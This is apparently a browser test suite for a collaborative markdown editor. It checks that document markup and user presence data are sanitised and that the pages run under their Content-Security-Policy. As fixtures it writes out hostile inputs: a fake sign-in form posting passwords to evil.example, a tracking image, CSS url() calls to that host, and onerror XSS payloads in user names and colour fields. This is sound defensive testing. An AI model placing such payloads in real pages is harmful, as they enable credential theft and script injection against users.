"""A document's markup and a stranger's presence stay data in everyone's page.

Whoever can edit a document, or just join it, controls what every reader's page
is given: the text the preview renders, and the name and colour their client
announces. Neither may restyle the page, show a form, make the readers' browsers
call another site, or run anything; and the pages work under their own
Content-Security-Policy without a single violation.
"""

from __future__ import annotations

from typing import Any

import pytest
from playwright.async_api import Page
from pycrdt import Text

from tests.support.browser import People, Person
from tests.support.waiting import eventually

pytestmark = pytest.mark.browser

EVIL = "evil.example"
PIXEL = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
HOSTILE_DOCUMENT = f"""# Quarterly report

<style>body {{ display: none }} .topbar {{ background: url(https://{EVIL}/style.png) }}</style>

<form action="https://{EVIL}/steal" method="post"><p>Your session expired: sign in again.</p>
<input name="password" type="password"><button>Sign in</button></form>

<img src="https://{EVIL}/track.png" alt="tracker"> <img src="{PIXEL}" alt="inline">

<div class="notice history-panel" id="status" style="position:fixed;inset:0">Overlay</div>

<p onclick="window.hacked = 1" title='a "quoted" one'>Click me</p>

- [x] done
- [ ] to do

```js
let total = 1
```
"""
# #6b7280, identity.js DEFAULT_COLOR: the colour of whoever sends no #rrggbb one.
DEFAULT_RGB = "rgb(107, 114, 128)"
DEFAULT_TINT = "rgba(107, 114, 128, 0.2)"  # with colorLight's 33 alpha


async def open_watched_editor(people: People, name: str, document: str) -> tuple[Person, list[str]]:
    """`People.open_editor`, also recording every URL the person's browser requests."""
    person = await people.new(name)
    requests: list[str] = []
    person.context.on("request", lambda request: requests.append(request.url))
    await person.page.goto(f"{people.server.http_url}/d/{document}")
    dialog = person.page.locator("#user-dialog")
    await dialog.locator("input[name=name]").fill(name)
    await dialog.locator("button[value=save]").click()
    await person.page.locator("#status[data-state=connected]").wait_for()
    return person, requests


async def test_preview_renders_no_styles_forms_inputs_or_remote_images(people, connect):
    author = await connect("report")
    author.doc.get("content", type=Text).insert(0, HOSTILE_DOCUMENT)
    await eventually(lambda: author.received_updates >= 1)
    ada, requests = await open_watched_editor(people, "Ada", "report")
    page = ada.page
    await page.locator("#toggle-preview").click()
    preview = page.locator("#preview")
    await preview.locator("h1", has_text="Quarterly report").wait_for()

    for forbidden in ("style", "form", "input", "button", "[style]", "[onclick]", "link", "meta"):
        assert await preview.locator(forbidden).count() == 0, forbidden
    assert "sign in again" in await preview.inner_text()  # the text stays, as text
    # Images from this page itself (data:) stay; another site's is not fetched.
    assert await preview.locator("img[src^='data:']").count() == 1
    tracker = preview.locator("img[alt=tracker]")
    assert await tracker.get_attribute("src") is None
    assert EVIL in (await tracker.get_attribute("title") or "")
    # No borrowing of the page's classes or ids; code keeps its language class.
    assert await preview.locator("[class]").evaluate_all(
        "nodes => nodes.map(n => n.className)"
    ) == ["language-js"]
    assert await page.locator("#status").count() == 1
    assert await preview.locator("#user-content-status").count() == 1
    assert "☑ done" in await preview.inner_text()  # task lists without <input>
    await preview.locator("p", has_text="Click me").click()
    assert await page.evaluate("window.hacked") is None
    # The page looks as it did.
    assert await page.evaluate("getComputedStyle(document.body).display") == "flex"
    assert await page.locator(".topbar").is_visible()
    assert not [url for url in requests if EVIL in url]


def _position(client_id: int, clock: int) -> dict[str, Any]:
    """A Yjs relative position (JSON) at the character `client_id` wrote at `clock`."""
    return {"type": None, "tname": None, "item": {"client": client_id, "clock": clock}, "assoc": 0}


async def _styles(page: Page, selector: str) -> list[str]:
    return await page.locator(f"{selector} [style], {selector}[style]").evaluate_all(
        "nodes => nodes.map(n => n.getAttribute('style'))"
    )


async def test_a_strangers_colour_and_name_cannot_inject_styles_or_markup(people, connect, server):
    text = "First line of the minutes.\nSecond line here.\nThird line.\n"
    mallory = await connect("minutes")
    mallory.doc.get("content", type=Text).insert(0, text)
    await eventually(lambda: mallory.received_updates >= 1)
    writer = mallory.doc.client_id
    long_name = '<img src=x onerror="window.hacked = 1">' + "M" * 10_000
    await mallory.set_presence(
        {
            "user": {
                "name": long_name,
                "color": f"red;background:url(https://{EVIL}/colour.png)",
                "colorLight": "red;position:fixed;inset:0",
            },
            "cursor": {"anchor": _position(writer, 0), "head": _position(writer, 5)},
        }
    )
    eve = await connect("minutes")
    await eve.set_presence(
        {
            "user": {"name": "Eve\u202e\x07", "color": '"><img src=x onerror="window.hacked = 2">'},
            # From the first line to the third: a whole line selected in between.
            "cursor": {"anchor": _position(writer, 10), "head": _position(writer, 50)},
        }
    )
    ada, requests = await open_watched_editor(people, "Ada", "minutes")
    page = ada.page

    async def both_cursors() -> bool:
        return len(await ada.cursor_labels()) == 2

    await eventually(both_cursors, what="Ada sees Mallory's and Eve's cursors")
    shown = long_name[:39] + "…"  # 40 characters, as text: the markup is not parsed
    assert sorted(await ada.cursor_labels()) == sorted([shown, "Eve"])
    for caret in await page.locator(".cm-ySelectionCaret").all():
        assert await caret.evaluate("e => getComputedStyle(e).backgroundColor") == DEFAULT_RGB
    for selected in await page.locator(".cm-ySelection, .cm-yLineSelection").all():
        assert await selected.evaluate("e => getComputedStyle(e).backgroundColor") == DEFAULT_TINT
    assert await page.locator(".cm-yLineSelection").count() == 1

    # The presence bar: the same names, the default colour.
    await eventually(lambda: _has_names(ada, ["Ada", "Eve", shown]))
    for name in ("Eve", shown):
        avatar = page.locator("#presence .presence-person", has_text=name).locator(".avatar")
        assert await avatar.evaluate("e => getComputedStyle(e).backgroundColor") == DEFAULT_RGB

    # The document list, from the server's `present`.
    listing = await ada.context.new_page()
    await listing.goto(people.server.http_url + "/")
    row = listing.locator("#documents tr[data-name=minutes]")
    await row.locator(".present-person", has_text="Eve").wait_for()
    names = await row.locator(".present-person span:not(.avatar)").all_inner_texts()
    assert names and all(len(name) <= 40 for name in names)
    for avatar in await row.locator(".avatar").all():
        background = await avatar.evaluate("e => getComputedStyle(e).backgroundColor")
        assert background in (DEFAULT_RGB, await _own_colour(page)), background

    painted = ((page, ".cm-editor"), (page, "#presence"), (listing, "#documents"))
    for shown_on, selector in painted:
        for style in await _styles(shown_on, selector):
            assert "url(" not in style and "position" not in style and "<" not in style, style
        # (CodeMirror's own <img class=cm-widgetBuffer> around widgets have no source.)
        assert await shown_on.locator(f"{selector} img[src], {selector} [onerror]").count() == 0
    assert await page.evaluate("window.hacked") is None
    assert not [url for url in requests if EVIL in url]


async def _has_names(person: Person, expected: list[str]) -> bool:
    return sorted(await person.present_names()) == sorted(expected)


async def _own_colour(page: Page) -> str:
    self_avatar = page.locator("#presence .is-self .avatar")
    return await self_avatar.evaluate("e => getComputedStyle(e).backgroundColor")


VIOLATIONS_JS = """
window.cspViolations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.cspViolations.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""


async def test_the_editor_works_under_its_content_security_policy(people, server):
    ada = await people.new("Ada")
    await ada.context.add_init_script(VIOLATIONS_JS)
    page = ada.page
    encodings: dict[str, str | None] = {}
    page.on(
        "response",
        lambda r: (
            encodings.update({r.url: r.headers.get("content-encoding")})
            if "/assets/" in r.url
            else None
        ),
    )
    response = await page.goto(f"{server.http_url}/d/policed")
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "script-src 'self';" in policy and "style-src 'self' 'nonce-" in policy
    await page.locator("#user-dialog input[name=name]").fill("Ada")
    await page.locator("#user-dialog button[value=save]").click()
    await page.locator("#status[data-state=connected]").wait_for()  # ws: under 'self'
    # The bundle arrived compressed, and ran.
    assert len(encodings) == 2 and set(encodings.values()) <= {"gzip", "br"}, encodings

    bob = await people.open_editor("Bob", "policed")
    await ada.type("# Policed\n\nStill **works**.")
    await bob.wait_for_text("# Policed\n\nStill **works**.")
    await page.keyboard.press("Control+Home")
    await bob.page.keyboard.press("Control+End")

    # CodeMirror's own styles (its <style> elements, admitted by the nonce) apply.
    editor = page.locator(".cm-editor")
    assert await editor.evaluate("e => getComputedStyle(e).display") == "flex"
    label = page.locator(".cm-ySelectionInfo", has_text="Bob")
    await label.wait_for()
    assert await label.evaluate("e => getComputedStyle(e).fontWeight") == "600"
    # Bob's colour, set through the CSSOM, reaches his caret in Ada's editor.
    bob_colour = await _own_colour(bob.page)
    caret = page.locator(".cm-ySelectionCaret")
    assert await caret.evaluate("e => getComputedStyle(e).backgroundColor") == bob_colour

    await page.locator("#toggle-preview").click()
    await page.locator("#preview strong", has_text="works").wait_for()
    await page.locator("#toggle-history").click()
    await page.locator("#history .versions li").first.wait_for()
    await page.goto(f"{server.http_url}/")
    await page.locator("#documents tr[data-name=policed]").wait_for()
    assert await page.evaluate("window.cspViolations") == []
